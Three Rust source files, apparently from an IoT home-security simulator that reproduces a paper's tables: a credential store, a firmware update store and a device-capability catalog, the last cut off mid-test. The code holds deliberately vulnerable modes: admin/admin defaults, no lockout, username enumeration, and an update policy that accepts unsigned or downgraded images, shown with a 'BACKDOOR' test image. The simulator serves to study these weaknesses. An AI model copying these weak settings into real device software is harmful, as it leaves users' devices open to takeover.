