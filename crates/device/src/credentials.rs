//! Device credential store: the administration-interface authentication
//! surface from §III-A — default credentials, weak passwords, username
//! enumeration, and lockout.

use std::collections::BTreeMap;
use xlf_lwcrypto::hash::LightHash;

/// Result of a login attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LoginOutcome {
    /// Credentials accepted.
    Success,
    /// Unknown user. When username enumeration is enabled this is
    /// distinguishable from `WrongPassword` — itself a vulnerability.
    UnknownUser,
    /// Known user, wrong password.
    WrongPassword,
    /// Account locked out after too many failures.
    LockedOut,
}

/// Credential store with configurable weaknesses.
#[derive(Debug, Clone)]
pub struct CredentialStore {
    /// username → password hash.
    users: BTreeMap<String, [u8; 32]>,
    /// Consecutive failures per user.
    failures: BTreeMap<String, u32>,
    /// Failures before lockout (`None` = never lock — a vulnerability).
    pub lockout_threshold: Option<u32>,
    /// Whether login errors distinguish unknown users from bad passwords.
    pub enumerable_usernames: bool,
    /// Whether factory-default credentials are still active.
    pub has_default_credentials: bool,
}

fn hash_password(user: &str, password: &str) -> [u8; 32] {
    let mut h = LightHash::new();
    h.update(user.as_bytes());
    h.update(&[0x1F]);
    h.update(password.as_bytes());
    h.finalize()
}

impl CredentialStore {
    /// Creates a hardened store (lockout after 5, no enumeration, no
    /// defaults).
    pub fn hardened() -> Self {
        CredentialStore {
            users: BTreeMap::new(),
            failures: BTreeMap::new(),
            lockout_threshold: Some(5),
            enumerable_usernames: false,
            has_default_credentials: false,
        }
    }

    /// Creates a factory-default store: `admin`/`admin` active, no
    /// lockout, enumerable usernames — the Table II smart-bulb row.
    pub fn factory_default() -> Self {
        let mut store = CredentialStore {
            users: BTreeMap::new(),
            failures: BTreeMap::new(),
            lockout_threshold: None,
            enumerable_usernames: true,
            has_default_credentials: true,
        };
        store.add_user("admin", "admin");
        store
    }

    /// Adds or replaces a user.
    pub fn add_user(&mut self, user: &str, password: &str) {
        self.users
            .insert(user.to_string(), hash_password(user, password));
    }

    /// Estimates password strength: length and character-class count.
    /// Scores 0–4; anything below 2 is "weak" per the §III-A analysis.
    pub fn password_strength(password: &str) -> u8 {
        let mut score = 0u8;
        if password.len() >= 8 {
            score += 1;
        }
        if password.len() >= 12 {
            score += 1;
        }
        let classes = [
            password.chars().any(|c| c.is_ascii_lowercase()),
            password.chars().any(|c| c.is_ascii_uppercase()),
            password.chars().any(|c| c.is_ascii_digit()),
            password.chars().any(|c| !c.is_ascii_alphanumeric()),
        ]
        .iter()
        .filter(|&&b| b)
        .count();
        if classes >= 2 {
            score += 1;
        }
        if classes >= 3 {
            score += 1;
        }
        score
    }

    /// Attempts a login, applying lockout accounting.
    pub fn login(&mut self, user: &str, password: &str) -> LoginOutcome {
        let Some(stored) = self.users.get(user) else {
            return if self.enumerable_usernames {
                LoginOutcome::UnknownUser
            } else {
                LoginOutcome::WrongPassword
            };
        };
        let fails = self.failures.entry(user.to_string()).or_insert(0);
        if let Some(threshold) = self.lockout_threshold {
            if *fails >= threshold {
                return LoginOutcome::LockedOut;
            }
        }
        if *stored == hash_password(user, password) {
            *fails = 0;
            LoginOutcome::Success
        } else {
            *fails += 1;
            LoginOutcome::WrongPassword
        }
    }

    /// Clears a user's lockout counter (administrative reset).
    pub fn reset_lockout(&mut self, user: &str) {
        self.failures.remove(user);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn factory_default_accepts_admin_admin() {
        let mut store = CredentialStore::factory_default();
        assert_eq!(store.login("admin", "admin"), LoginOutcome::Success);
        assert!(store.has_default_credentials);
    }

    #[test]
    fn hardened_store_locks_out_after_failures() {
        let mut store = CredentialStore::hardened();
        store.add_user("alice", "correct horse battery");
        for _ in 0..5 {
            assert_eq!(store.login("alice", "wrong"), LoginOutcome::WrongPassword);
        }
        assert_eq!(store.login("alice", "wrong"), LoginOutcome::LockedOut);
        // Even the correct password is refused while locked.
        assert_eq!(
            store.login("alice", "correct horse battery"),
            LoginOutcome::LockedOut
        );
        store.reset_lockout("alice");
        assert_eq!(
            store.login("alice", "correct horse battery"),
            LoginOutcome::Success
        );
    }

    #[test]
    fn success_resets_failure_counter() {
        let mut store = CredentialStore::hardened();
        store.add_user("bob", "pw12345678");
        for _ in 0..4 {
            store.login("bob", "wrong");
        }
        assert_eq!(store.login("bob", "pw12345678"), LoginOutcome::Success);
        for _ in 0..4 {
            assert_eq!(store.login("bob", "nope"), LoginOutcome::WrongPassword);
        }
    }

    #[test]
    fn enumeration_behaviour_follows_flag() {
        let mut enumerable = CredentialStore::factory_default();
        assert_eq!(enumerable.login("ghost", "x"), LoginOutcome::UnknownUser);
        let mut hardened = CredentialStore::hardened();
        assert_eq!(hardened.login("ghost", "x"), LoginOutcome::WrongPassword);
    }

    #[test]
    fn password_strength_scoring() {
        assert!(CredentialStore::password_strength("admin") < 2);
        assert!(CredentialStore::password_strength("12345678") < 2);
        assert!(CredentialStore::password_strength("Tr0ub4dor&3xyz") >= 3);
    }

    #[test]
    fn hashes_are_per_user_salted() {
        // Same password, different users → different stored hashes.
        assert_ne!(hash_password("a", "pw"), hash_password("b", "pw"));
    }
}
