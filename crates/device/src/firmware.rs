//! Firmware images and the on-device update store.
//!
//! Encodes the paper's §III-C OTA threat analysis: "if the update is sent
//! unencrypted or unsigned, or the implementations of the verification are
//! not robust, then the device could be easily compromised". The
//! [`UpdatePolicy`] captures the robust path; the Table II
//! firmware-integrity vulnerability is reproduced by disabling checks.

use std::fmt;
use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::hash::LightHash;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::mac::CbcMac;

/// A firmware version (major, minor, patch).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Version(pub u16, pub u16, pub u16);

impl fmt::Display for Version {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}.{}.{}", self.0, self.1, self.2)
    }
}

/// Errors from firmware verification/installation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FirmwareError {
    /// Signature missing but the policy requires one.
    Unsigned,
    /// Signature present but invalid for the vendor key.
    BadSignature,
    /// Image hash does not match its manifest.
    CorruptImage,
    /// Update is older than (or equal to) the installed version and the
    /// policy forbids downgrades.
    Downgrade {
        /// Version currently installed.
        installed: Version,
        /// Version offered by the update.
        offered: Version,
    },
    /// Serialized image could not be parsed.
    Malformed,
}

impl fmt::Display for FirmwareError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FirmwareError::Unsigned => write!(f, "update rejected: unsigned image"),
            FirmwareError::BadSignature => write!(f, "update rejected: invalid vendor signature"),
            FirmwareError::CorruptImage => write!(f, "update rejected: image hash mismatch"),
            FirmwareError::Downgrade { installed, offered } => write!(
                f,
                "update rejected: downgrade from {installed} to {offered}"
            ),
            FirmwareError::Malformed => write!(f, "update rejected: malformed image"),
        }
    }
}

impl std::error::Error for FirmwareError {}

/// A firmware image with manifest hash and optional vendor signature.
#[derive(Debug, Clone, PartialEq)]
pub struct FirmwareImage {
    /// Version carried in the manifest.
    pub version: Version,
    /// Vendor identifier (selects the verification key).
    pub vendor: String,
    /// Raw image payload.
    pub payload: Vec<u8>,
    /// Manifest hash of the payload.
    pub digest: [u8; 32],
    /// Vendor MAC over (version ‖ vendor ‖ digest); `None` = unsigned.
    pub signature: Option<Vec<u8>>,
}

fn vendor_cipher(vendor: &str, vendor_secret: &[u8]) -> Speck128 {
    let key = derive_key(vendor_secret, &format!("fw-sign/{vendor}"), 16)
        .unwrap_or_else(|_| unreachable!("non-empty label and length"));
    Speck128::new(&key).unwrap_or_else(|_| unreachable!("derive_key returned 16 bytes"))
}

fn signing_input(version: Version, vendor: &str, digest: &[u8; 32]) -> Vec<u8> {
    let mut input = Vec::new();
    input.extend_from_slice(&version.0.to_be_bytes());
    input.extend_from_slice(&version.1.to_be_bytes());
    input.extend_from_slice(&version.2.to_be_bytes());
    input.extend_from_slice(vendor.as_bytes());
    input.push(0);
    input.extend_from_slice(digest);
    input
}

impl FirmwareImage {
    /// Builds an unsigned image (hash computed over the payload).
    pub fn unsigned(version: Version, vendor: &str, payload: Vec<u8>) -> Self {
        let digest = LightHash::digest(&payload);
        FirmwareImage {
            version,
            vendor: vendor.to_string(),
            payload,
            digest,
            signature: None,
        }
    }

    /// Builds a vendor-signed image.
    pub fn signed(version: Version, vendor: &str, payload: Vec<u8>, vendor_secret: &[u8]) -> Self {
        let mut image = Self::unsigned(version, vendor, payload);
        let cipher = vendor_cipher(vendor, vendor_secret);
        let mac = CbcMac::new(&cipher);
        let sig = mac
            .tag(&signing_input(image.version, &image.vendor, &image.digest))
            .unwrap_or_else(|_| unreachable!("CBC-MAC tagging is total"));
        image.signature = Some(sig);
        image
    }

    /// Verifies the payload hash and (if present) the vendor signature.
    ///
    /// # Errors
    ///
    /// [`FirmwareError::CorruptImage`] on hash mismatch,
    /// [`FirmwareError::BadSignature`] on MAC mismatch.
    pub fn verify(&self, vendor_secret: &[u8]) -> Result<(), FirmwareError> {
        if LightHash::digest(&self.payload) != self.digest {
            return Err(FirmwareError::CorruptImage);
        }
        if let Some(sig) = &self.signature {
            let cipher = vendor_cipher(&self.vendor, vendor_secret);
            let mac = CbcMac::new(&cipher);
            let ok = mac
                .verify(
                    &signing_input(self.version, &self.vendor, &self.digest),
                    sig,
                )
                .unwrap_or_else(|_| unreachable!("CBC-MAC verification is total"));
            if !ok {
                return Err(FirmwareError::BadSignature);
            }
        }
        Ok(())
    }

    /// Serializes the image for OTA transport.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(&self.version.0.to_be_bytes());
        out.extend_from_slice(&self.version.1.to_be_bytes());
        out.extend_from_slice(&self.version.2.to_be_bytes());
        out.extend_from_slice(&(self.vendor.len() as u16).to_be_bytes());
        out.extend_from_slice(self.vendor.as_bytes());
        out.extend_from_slice(&self.digest);
        match &self.signature {
            Some(sig) => {
                out.push(1);
                out.extend_from_slice(&(sig.len() as u16).to_be_bytes());
                out.extend_from_slice(sig);
            }
            None => out.push(0),
        }
        out.extend_from_slice(&(self.payload.len() as u32).to_be_bytes());
        out.extend_from_slice(&self.payload);
        out
    }

    /// Parses an image serialized with [`FirmwareImage::to_bytes`].
    ///
    /// # Errors
    ///
    /// [`FirmwareError::Malformed`] on any framing violation.
    pub fn from_bytes(data: &[u8]) -> Result<Self, FirmwareError> {
        let mut pos = 0usize;
        let take = |pos: &mut usize, n: usize| -> Result<&[u8], FirmwareError> {
            // `pos + n` on untrusted lengths can overflow (and wrap past
            // the bounds check); checked arithmetic makes any overflow a
            // Malformed error instead.
            let end = pos
                .checked_add(n)
                .filter(|&e| e <= data.len())
                .ok_or(FirmwareError::Malformed)?;
            let slice = &data[*pos..end];
            *pos = end;
            Ok(slice)
        };
        let v0 = u16::from_be_bytes(
            take(&mut pos, 2)?
                .try_into()
                .map_err(|_| FirmwareError::Malformed)?,
        );
        let v1 = u16::from_be_bytes(
            take(&mut pos, 2)?
                .try_into()
                .map_err(|_| FirmwareError::Malformed)?,
        );
        let v2 = u16::from_be_bytes(
            take(&mut pos, 2)?
                .try_into()
                .map_err(|_| FirmwareError::Malformed)?,
        );
        let vlen = u16::from_be_bytes(
            take(&mut pos, 2)?
                .try_into()
                .map_err(|_| FirmwareError::Malformed)?,
        ) as usize;
        let vendor = String::from_utf8(take(&mut pos, vlen)?.to_vec())
            .map_err(|_| FirmwareError::Malformed)?;
        let digest: [u8; 32] = take(&mut pos, 32)?
            .try_into()
            .map_err(|_| FirmwareError::Malformed)?;
        let signed = take(&mut pos, 1)?[0];
        let signature = if signed == 1 {
            let slen = u16::from_be_bytes(
                take(&mut pos, 2)?
                    .try_into()
                    .map_err(|_| FirmwareError::Malformed)?,
            ) as usize;
            Some(take(&mut pos, slen)?.to_vec())
        } else if signed == 0 {
            None
        } else {
            return Err(FirmwareError::Malformed);
        };
        let plen = u32::from_be_bytes(
            take(&mut pos, 4)?
                .try_into()
                .map_err(|_| FirmwareError::Malformed)?,
        ) as usize;
        let payload = take(&mut pos, plen)?.to_vec();
        if pos != data.len() {
            return Err(FirmwareError::Malformed);
        }
        Ok(FirmwareImage {
            version: Version(v0, v1, v2),
            vendor,
            digest,
            signature,
            payload,
        })
    }
}

/// How strictly a device vets updates — the robust path vs the Table II
/// vulnerable paths.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct UpdatePolicy {
    /// Require a valid vendor signature.
    pub require_signature: bool,
    /// Refuse version downgrades.
    pub forbid_downgrade: bool,
}

impl UpdatePolicy {
    /// The secure default: signed images only, no downgrades.
    pub fn strict() -> Self {
        UpdatePolicy {
            require_signature: true,
            forbid_downgrade: true,
        }
    }

    /// The vulnerable configuration from Table II's network-camera row:
    /// accepts anything.
    pub fn promiscuous() -> Self {
        UpdatePolicy {
            require_signature: false,
            forbid_downgrade: false,
        }
    }
}

/// The on-device firmware slot.
#[derive(Debug, Clone)]
pub struct FirmwareStore {
    installed: FirmwareImage,
    policy: UpdatePolicy,
    vendor_secret: Vec<u8>,
    /// History of applied versions (newest last).
    pub history: Vec<Version>,
}

impl FirmwareStore {
    /// Initializes the store with a factory image.
    pub fn new(factory: FirmwareImage, policy: UpdatePolicy, vendor_secret: &[u8]) -> Self {
        let v = factory.version;
        FirmwareStore {
            installed: factory,
            policy,
            vendor_secret: vendor_secret.to_vec(),
            history: vec![v],
        }
    }

    /// Currently installed image.
    pub fn installed(&self) -> &FirmwareImage {
        &self.installed
    }

    /// Attempts to apply an OTA update under the store's policy.
    ///
    /// # Errors
    ///
    /// Any [`FirmwareError`] per the policy checks; on error the installed
    /// image is unchanged.
    pub fn apply(&mut self, image: FirmwareImage) -> Result<(), FirmwareError> {
        if self.policy.require_signature && image.signature.is_none() {
            return Err(FirmwareError::Unsigned);
        }
        image.verify(&self.vendor_secret)?;
        if self.policy.forbid_downgrade && image.version <= self.installed.version {
            return Err(FirmwareError::Downgrade {
                installed: self.installed.version,
                offered: image.version,
            });
        }
        self.history.push(image.version);
        self.installed = image;
        Ok(())
    }

    /// Applies an operator-initiated rollback to a known-good image.
    ///
    /// The signature policy and image verification still apply — a
    /// rollback must never be the path that smuggles a bad image in —
    /// but the downgrade check is deliberately bypassed: returning to an
    /// older version is the whole point of containment. The rollback is
    /// recorded in the history like any other apply.
    ///
    /// # Errors
    ///
    /// [`FirmwareError::Unsigned`], [`FirmwareError::BadSignature`] or
    /// [`FirmwareError::CorruptImage`] per the policy checks; on error
    /// the installed image is unchanged.
    pub fn apply_rollback(&mut self, image: FirmwareImage) -> Result<(), FirmwareError> {
        if self.policy.require_signature && image.signature.is_none() {
            return Err(FirmwareError::Unsigned);
        }
        image.verify(&self.vendor_secret)?;
        self.history.push(image.version);
        self.installed = image;
        Ok(())
    }

    /// Restores snapshot-captured mutable state (installed image +
    /// version history), keeping the store's policy and vendor secret.
    ///
    /// Used by the fleet run-level snapshot: policy and secret are pure
    /// functions of the spec and are rebuilt by the caller; only the
    /// mutable slot state travels through the snapshot.
    pub fn restore_state(&mut self, installed: FirmwareImage, history: Vec<Version>) {
        self.installed = installed;
        self.history = history;
    }

    /// Whether the installed payload contains a marker (used by tests and
    /// the attacks crate to detect implanted payloads).
    pub fn payload_contains(&self, marker: &[u8]) -> bool {
        self.installed
            .payload
            .windows(marker.len().max(1))
            .any(|w| w == marker)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &[u8] = b"vendor signing secret";

    fn factory() -> FirmwareImage {
        FirmwareImage::signed(Version(1, 0, 0), "acme", b"factory fw".to_vec(), SECRET)
    }

    #[test]
    fn signed_roundtrip_and_verify() {
        let img = factory();
        assert!(img.verify(SECRET).is_ok());
        let parsed = FirmwareImage::from_bytes(&img.to_bytes()).unwrap();
        assert_eq!(parsed, img);
        assert!(parsed.verify(SECRET).is_ok());
    }

    #[test]
    fn tampered_payload_detected() {
        let mut img = factory();
        img.payload[0] ^= 0xFF;
        assert_eq!(img.verify(SECRET), Err(FirmwareError::CorruptImage));
    }

    #[test]
    fn forged_signature_detected() {
        let mut img = FirmwareImage::signed(Version(2, 0, 0), "acme", b"evil".to_vec(), b"wrong");
        // Recompute digest correctly but signature is under the wrong key.
        img.digest = xlf_lwcrypto::hash::LightHash::digest(&img.payload);
        assert_eq!(img.verify(SECRET), Err(FirmwareError::BadSignature));
    }

    #[test]
    fn strict_store_rejects_unsigned_and_downgrade() {
        let mut store = FirmwareStore::new(factory(), UpdatePolicy::strict(), SECRET);
        let unsigned = FirmwareImage::unsigned(Version(2, 0, 0), "acme", b"v2".to_vec());
        assert_eq!(store.apply(unsigned), Err(FirmwareError::Unsigned));

        let old = FirmwareImage::signed(Version(0, 9, 0), "acme", b"old".to_vec(), SECRET);
        assert!(matches!(
            store.apply(old),
            Err(FirmwareError::Downgrade { .. })
        ));

        let v2 = FirmwareImage::signed(Version(2, 0, 0), "acme", b"v2".to_vec(), SECRET);
        assert!(store.apply(v2).is_ok());
        assert_eq!(store.installed().version, Version(2, 0, 0));
        assert_eq!(store.history, vec![Version(1, 0, 0), Version(2, 0, 0)]);
    }

    #[test]
    fn promiscuous_store_accepts_malicious_image() {
        // Reproduces the Table II "firmware modulation" row.
        let mut store = FirmwareStore::new(factory(), UpdatePolicy::promiscuous(), SECRET);
        let evil = FirmwareImage::unsigned(Version(0, 0, 1), "mallory", b"BACKDOOR".to_vec());
        assert!(store.apply(evil).is_ok());
        assert!(store.payload_contains(b"BACKDOOR"));
    }

    #[test]
    fn malformed_bytes_rejected() {
        assert_eq!(
            FirmwareImage::from_bytes(&[1, 2, 3]),
            Err(FirmwareError::Malformed)
        );
        let mut bytes = factory().to_bytes();
        bytes.truncate(bytes.len() - 1);
        assert_eq!(
            FirmwareImage::from_bytes(&bytes),
            Err(FirmwareError::Malformed)
        );
        bytes = factory().to_bytes();
        bytes.push(0);
        assert_eq!(
            FirmwareImage::from_bytes(&bytes),
            Err(FirmwareError::Malformed)
        );
    }

    #[test]
    fn replayed_old_signed_image_is_rejected_as_downgrade() {
        // Downgrade-replay regression: an attacker replays a *validly
        // signed* old release (captured before a security fix shipped).
        // The signature verifies — vendor keys don't expire per-version —
        // so the only defense is the downgrade check, and it must fire
        // even though every other check passes.
        let old =
            FirmwareImage::signed(Version(1, 0, 0), "acme", b"vulnerable v1".to_vec(), SECRET);
        assert!(old.verify(SECRET).is_ok(), "the replayed image is genuine");

        let mut store = FirmwareStore::new(factory(), UpdatePolicy::strict(), SECRET);
        let v2 = FirmwareImage::signed(Version(2, 0, 0), "acme", b"patched v2".to_vec(), SECRET);
        store.apply(v2).unwrap();

        // The wire replay: serialized old image, parsed and offered.
        let replayed = FirmwareImage::from_bytes(&old.to_bytes()).unwrap();
        assert_eq!(
            store.apply(replayed),
            Err(FirmwareError::Downgrade {
                installed: Version(2, 0, 0),
                offered: Version(1, 0, 0),
            })
        );
        assert!(store.payload_contains(b"patched v2"), "install unchanged");

        // A promiscuous store reproduces the vulnerable path: replay
        // succeeds — this asymmetry is exactly Table II's row.
        let mut weak = FirmwareStore::new(factory(), UpdatePolicy::promiscuous(), SECRET);
        let v2 = FirmwareImage::signed(Version(2, 0, 0), "acme", b"patched v2".to_vec(), SECRET);
        weak.apply(v2).unwrap();
        assert!(weak.apply(old).is_ok());
        assert!(weak.payload_contains(b"vulnerable v1"));
    }

    #[test]
    fn rollback_bypasses_downgrade_but_not_signature_policy() {
        let mut store = FirmwareStore::new(factory(), UpdatePolicy::strict(), SECRET);
        let v2 = FirmwareImage::signed(Version(2, 0, 0), "acme", b"v2".to_vec(), SECRET);
        store.apply(v2).unwrap();

        // A regular apply of the factory image is a downgrade...
        assert!(matches!(
            store.apply(factory()),
            Err(FirmwareError::Downgrade { .. })
        ));
        // ...but an unsigned "rollback" is still refused...
        let unsigned = FirmwareImage::unsigned(Version(1, 0, 0), "acme", b"evil".to_vec());
        assert_eq!(store.apply_rollback(unsigned), Err(FirmwareError::Unsigned));
        // ...while the signed known-good image rolls back fine.
        store.apply_rollback(factory()).unwrap();
        assert_eq!(store.installed().version, Version(1, 0, 0));
        assert_eq!(
            store.history,
            vec![Version(1, 0, 0), Version(2, 0, 0), Version(1, 0, 0)]
        );
    }

    #[test]
    fn version_ordering_and_display() {
        assert!(Version(1, 2, 3) < Version(1, 3, 0));
        assert!(Version(2, 0, 0) > Version(1, 99, 99));
        assert_eq!(Version(1, 2, 3).to_string(), "1.2.3");
    }
}
