//! The Table I device catalog: computing capabilities of typical
//! IoT-enabled home devices, transcribed row by row from the paper.
//!
//! "Computation, storage, and power limit the security functions that can
//! be implemented on the device" — these envelopes drive the
//! cipher-feasibility analysis (E-T1) and XLF's crypto negotiation.

use std::fmt;

/// Power source of a device (Table I's "Power" column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PowerSource {
    /// Battery powered — energy budget matters.
    Battery,
    /// Mains powered.
    AcPower,
    /// Passively powered or not applicable (RFID tags).
    Passive,
}

impl fmt::Display for PowerSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            PowerSource::Battery => "Battery",
            PowerSource::AcPower => "AC Power",
            PowerSource::Passive => "NA",
        };
        f.write_str(s)
    }
}

/// The 21 device types of Table I.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[allow(missing_docs)]
pub enum DeviceClass {
    HidGlassTagRfid,
    HidPiccolinoTagRfid,
    SensorDevice,
    GoogleChromecast,
    NetgearRouter,
    GatewayWise3310,
    Rex2SmartMeter,
    PhilipsHueLightbulb,
    NestSmokeDetector,
    NestLearningThermostat,
    SamsungSmartCam,
    SamsungSmartTv,
    OortBluetoothController,
    DacorAndroidOven,
    FitbitFlex,
    LgWatchUrbane2,
    SamsungWatchGearS2,
    AppleWatch,
    Iphone6sPlus,
    IpadPro129,
    /// A coffee machine / fridge-class appliance (Table II rows without a
    /// Table I entry; given sensor-class resources).
    GenericAppliance,
}

/// A device's computing envelope (one Table I row).
#[derive(Debug, Clone, PartialEq)]
pub struct DeviceSpec {
    /// Which catalog entry this is.
    pub class: DeviceClass,
    /// Human-readable name as printed in Table I.
    pub name: &'static str,
    /// Chipset description from Table I.
    pub chipset: &'static str,
    /// Core frequency in Hz (RFID tags list their carrier frequency).
    pub core_hz: u64,
    /// RAM in bytes (0 when Table I lists N/A).
    pub ram_bytes: u64,
    /// Flash in bytes (0 when Table I lists N/A).
    pub flash_bytes: u64,
    /// Power source.
    pub power: PowerSource,
}

impl DeviceSpec {
    /// Looks up the spec for a device class.
    pub fn of(class: DeviceClass) -> DeviceSpec {
        catalog()
            .into_iter()
            .find(|d| d.class == class)
            .unwrap_or_else(|| unreachable!("every class is in the catalog"))
    }

    /// Whether the device is in the severely constrained tier
    /// (microcontroller-class: < 64 KiB RAM).
    pub fn is_constrained(&self) -> bool {
        self.ram_bytes < 64 * 1024
    }

    /// Whether the device is a passive tag with no programmable CPU.
    pub fn is_passive_tag(&self) -> bool {
        matches!(
            self.class,
            DeviceClass::HidGlassTagRfid | DeviceClass::HidPiccolinoTagRfid
        )
    }
}

const KB: u64 = 1024;
const MB: u64 = 1024 * 1024;
const GB: u64 = 1024 * 1024 * 1024;

/// The full Table I catalog.
pub fn catalog() -> Vec<DeviceSpec> {
    use DeviceClass::*;
    vec![
        DeviceSpec {
            class: HidGlassTagRfid,
            name: "HID Glass Tag Ultra (RFID)",
            chipset: "EM 4305",
            core_hz: 134_200,
            ram_bytes: 512 / 8, // 512 bits RW
            flash_bytes: 0,
            power: PowerSource::Passive,
        },
        DeviceSpec {
            class: HidPiccolinoTagRfid,
            name: "HID Piccolino Tag (RFID)",
            chipset: "I-Code SLIx, SLIx-S",
            core_hz: 13_560_000,
            ram_bytes: 2048 / 8, // 2048 bits RW
            flash_bytes: 0,
            power: PowerSource::Passive,
        },
        DeviceSpec {
            class: SensorDevice,
            name: "Sensor Devices",
            chipset: "Microcontroller",
            core_hz: 16_000_000,  // midpoint of 4–32 MHz
            ram_bytes: 8 * KB,    // midpoint of 4–16 KB
            flash_bytes: 64 * KB, // midpoint of 16–128 KB
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: GoogleChromecast,
            name: "Google Chromecast",
            chipset: "ARM Cortex-A7",
            core_hz: 1_200_000_000,
            ram_bytes: 512 * MB,
            flash_bytes: 256 * MB,
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: NetgearRouter,
            name: "NETGEAR Router",
            chipset: "Broadcom BCM4709A",
            core_hz: 1_000_000_000,
            ram_bytes: 256 * MB,
            flash_bytes: 128 * KB,
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: GatewayWise3310,
            name: "Gateway WISE-3310",
            chipset: "ARM Cortex-A9",
            core_hz: 1_000_000_000,
            ram_bytes: GB, // Table I lists NA; Cortex-A9 class
            flash_bytes: 4 * GB,
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: Rex2SmartMeter,
            name: "REX2 Smart Meter",
            chipset: "Teridian 71M6531F SoC",
            core_hz: 10_000_000,
            ram_bytes: 4 * KB,
            flash_bytes: 256 * KB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: PhilipsHueLightbulb,
            name: "Philips Hue Lightbulb",
            chipset: "TI CC2530 SoC",
            core_hz: 32_000_000,
            ram_bytes: 8 * KB,
            flash_bytes: 256 * KB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: NestSmokeDetector,
            name: "Nest Smoke Detector",
            chipset: "ARM Cortex-M0",
            core_hz: 48_000_000,
            ram_bytes: 16 * KB,
            flash_bytes: 128 * KB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: NestLearningThermostat,
            name: "Nest Learning Thermostat",
            chipset: "ARM Cortex-A8",
            core_hz: 800_000_000,
            ram_bytes: 512 * MB,
            flash_bytes: 2 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: SamsungSmartCam,
            name: "Samsung Smart Cam",
            chipset: "GM812x SoC",
            core_hz: 540_000_000,
            ram_bytes: 128 * MB, // Table I lists N/A; GM812x class
            flash_bytes: 64 * GB,
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: SamsungSmartTv,
            name: "Samsung Smart TV",
            chipset: "ARM-based Exynos SoC",
            core_hz: 1_300_000_000,
            ram_bytes: GB,
            flash_bytes: 8 * GB, // Table I lists N/A
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: OortBluetoothController,
            name: "OORT Bluetooth Smart Controller",
            chipset: "ARM Cortex-M0",
            core_hz: 50_000_000,
            ram_bytes: 24 * KB, // 16KB/32KB
            flash_bytes: 256 * KB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: DacorAndroidOven,
            name: "Dacor Android Oven",
            chipset: "PowerVR SGX 540 graphics",
            core_hz: 1_000_000_000,
            ram_bytes: 512 * MB,
            flash_bytes: 4 * GB, // Table I lists NA
            power: PowerSource::AcPower,
        },
        DeviceSpec {
            class: FitbitFlex,
            name: "Fitbit Smart Wrist Band Flex",
            chipset: "ARM Cortex-M3",
            core_hz: 32_000_000,
            ram_bytes: 16 * KB,
            flash_bytes: 128 * KB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: LgWatchUrbane2,
            name: "LG Watch Urbane 2nd Edition",
            chipset: "Snapdragon 400 chipset",
            core_hz: 1_200_000_000,
            ram_bytes: 768 * MB,
            flash_bytes: 4 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: SamsungWatchGearS2,
            name: "Samsung Watch Gear S2",
            chipset: "MSM8x26",
            core_hz: 1_200_000_000,
            ram_bytes: 512 * MB,
            flash_bytes: 4 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: AppleWatch,
            name: "Apple Watch",
            chipset: "S1",
            core_hz: 520_000_000,
            ram_bytes: 512 * MB,
            flash_bytes: 8 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: Iphone6sPlus,
            name: "iPhone 6s Plus",
            chipset: "A9/64-bit/M9 coprocessor",
            core_hz: 1_850_000_000,
            ram_bytes: 2 * GB,
            flash_bytes: 128 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: IpadPro129,
            name: "12.9-inch iPad Pro",
            chipset: "A9X/64-bit/M9 coprocessor",
            core_hz: 1_850_000_000,
            ram_bytes: 4 * GB,
            flash_bytes: 256 * GB,
            power: PowerSource::Battery,
        },
        DeviceSpec {
            class: GenericAppliance,
            name: "Generic Smart Appliance",
            chipset: "Microcontroller",
            core_hz: 32_000_000,
            ram_bytes: 32 * KB,
            flash_bytes: 256 * KB,
            power: PowerSource::AcPower,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_has_all_table1_rows_plus_appliance() {
        assert_eq!(catalog().len(), 21);
    }

    #[test]
    fn classes_are_unique() {
        let mut classes: Vec<_> = catalog().into_iter().map(|d| d.class).collect();
        classes.sort();
        classes.dedup();
        assert_eq!(classes.len(), 21);
    }

    #[test]
    fn spec_lookup_matches_catalog() {
        let spec = DeviceSpec::of(DeviceClass::PhilipsHueLightbulb);
        assert_eq!(spec.chipset, "TI CC2530 SoC");
        assert_eq!(spec.core_hz, 32_000_000);
        assert_eq!(spec.ram_bytes, 8 * 1024);
    }

    #[test]
    fn constrained_tier_classification() {
        assert!(DeviceSpec::of(DeviceClass::SensorDevice).is_constrained());
        assert!(DeviceSpec::of(DeviceClass::PhilipsHueLightbulb).is_constrained());
        assert!(DeviceSpec::of(DeviceClass::NestSmokeDetector).is_constrained());
